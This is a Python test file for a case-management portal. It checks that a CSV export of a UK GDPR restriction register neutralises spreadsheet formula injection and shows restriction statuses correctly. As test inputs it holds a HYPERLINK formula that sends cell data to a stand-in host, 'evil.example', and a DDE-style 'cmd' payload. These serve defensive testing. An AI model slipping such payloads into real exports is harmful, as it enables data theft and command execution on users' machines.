"""The restriction register as data teams export it: a CSV no cell of which a spreadsheet
runs as a formula (portal.cases.register, portal.exports).

Plain function calls on a throwaway SQLite database (tests/unit/cases/conftest.py).
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from portal.cases import register
from portal.cases.casework_models import DecisionOutcome
from portal.cases.models import CaseKind, CaseState
from portal.cases.scenario_requests import objection_details
from portal.cases.scenario_steps import noon
from portal.exports import csv_cell
from tests.unit.cases.read_back import MONDAY


def test_the_register_csv_cannot_smuggle_a_formula_into_a_spreadsheet(session, scenarios):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    case = scenarios.case_in(CaseState.IN_PROGRESS, CaseKind.OBJECTION, received=MONDAY)
    case.subject.full_name = evil
    session.commit()
    scenarios.assess(case, grounds_raised="Fear", processing=["programme"])
    scenarios.propose(case, DecisionOutcome.UPHELD)
    scenarios.approve_decision(case, at=noon(date(2026, 3, 5)))
    rows = register.restriction_register(session)
    assert [(r.subject_name, r.processing) for r in rows] == [(evil, "programme")]
    text = register.restriction_register_csv(rows)
    header, line = list(csv.reader(io.StringIO(text)))
    assert header[:2] == ["Reference", "Name"]
    assert line == [
        case.reference,
        "'" + evil,
        "1988-02-14",
        "programme",
        "Linking their information for the Think Family programme",
        "2026-03-05",
        "In force: objection upheld",
        "",
    ]


def test_the_csv_shows_restriction_pending_decision_and_what_the_decision_lifted(
    session, scenarios
):
    """C12 (UK GDPR Art 18(1)(d)): restricted pending decision from the day the objection
    arrived; the decision confirms what it upholds and lifts the rest, from the next day
    (Art 18(3): the person is told first)."""
    case = scenarios.case_in(
        CaseState.RECEIVED,
        CaseKind.OBJECTION,
        received=MONDAY,
        details=objection_details(["programme", "national_study"], [], restrict=True),
    )
    header, *lines = csv.reader(
        io.StringIO(register.restriction_register_csv(register.restriction_register(session)))
    )
    assert header[-3:] == ["From", "Status", "Until"]
    assert [line[3:] for line in lines] == [
        [
            "programme",
            "Linking their information for the Think Family programme",
            "2026-03-02",
            "Restricted pending decision",
            "",
        ],
        [
            "national_study",
            "Sending their information to the National Impact Study (ONS and NIESR)",
            "2026-03-02",
            "Restricted pending decision",
            "",
        ],
    ]
    scenarios.in_progress(case)
    scenarios.assess(case, compelling_grounds="Child protection plan in place")
    scenarios.propose(case, DecisionOutcome.PARTLY_UPHELD, ["national_study"])
    scenarios.approve_decision(case, at=noon(date(2026, 3, 5)))
    _header, *lines = csv.reader(
        io.StringIO(register.restriction_register_csv(register.restriction_register(session)))
    )
    assert [(line[3], line[5], line[6], line[7]) for line in lines] == [
        ("programme", "2026-03-02", "Lifted: the use carries on", "2026-03-06"),
        ("national_study", "2026-03-02", "In force: objection upheld", ""),
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    row = register.RestrictionRow(
        reference="TF-AAAA-AAAA",
        subject_name=f"{start}cmd|' /C calc'!A0",
        date_of_birth=None,
        processing="programme",
        description="x",
        from_date=date(2026, 3, 5),
    )
    [_header, line] = list(csv.reader(io.StringIO(register.restriction_register_csv([row]))))
    assert line[1].startswith("'" + start)
    assert line[2] == ""


@pytest.mark.parametrize("cell", [" =1+1", "\t=cmd", "\r\n@x", " -2", "  +SUM(A1)", "\n=1"])
def test_a_formula_after_leading_whitespace_is_neutralised(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [" a", "  Wakefield", "a =1", "Łucja"])
def test_harmless_text_with_leading_whitespace_is_unchanged(cell):
    assert csv_cell(cell) == cell
